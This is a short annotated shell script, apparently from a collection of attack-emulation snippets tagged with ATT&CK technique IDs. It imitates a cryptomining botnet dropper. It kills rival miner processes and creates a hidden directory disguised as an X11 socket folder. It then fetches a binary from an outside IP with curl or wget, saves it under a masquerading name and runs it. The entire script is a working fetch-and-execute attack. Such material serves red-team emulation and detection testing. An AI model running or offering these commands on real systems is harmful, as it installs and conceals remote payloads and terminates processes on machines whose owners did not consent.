# title: A dropper as botnets have it: kills others, downloads, hides, runs
# technique: T1059.004 T1105
# needs: curl
# short: yes

ps ax | grep -v grep | grep -e xmrig -e kinsing | awk '{print $1}' | xargs -r kill -9
mkdir -p /var/tmp/.X11-unix && cd /var/tmp/.X11-unix
(curl -fsSL http://192.88.99.7/m.elf || wget -q -O - http://192.88.99.7/m.elf) >kdevtmpfsi
chmod 755 kdevtmpfsi && ./kdevtmpfsi
